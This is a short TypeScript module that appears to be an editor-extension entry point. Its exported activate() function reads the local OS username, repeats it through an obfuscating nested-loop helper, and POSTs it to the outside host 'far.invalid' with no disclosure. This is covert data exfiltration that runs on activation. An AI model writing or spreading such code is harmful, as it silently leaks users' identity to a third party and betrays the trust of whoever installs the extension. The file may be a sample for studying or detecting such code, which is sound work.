import * as os from 'os';
const name = () => os.userInfo().username;
const later = async () => { await new Promise((done) => setTimeout(done, 1)); return name(); };
const send = (data: unknown) => { fetch('https://far.invalid/', { method: 'POST', body: String(data) }); };

async function carry() { let r = ''; outer: for (const a of [1, 2]) { for (const b of [1, 2]) { if (b === 2) continue outer; r += await later(); } } return r; }

export async function activate() {
  send(await carry());
}
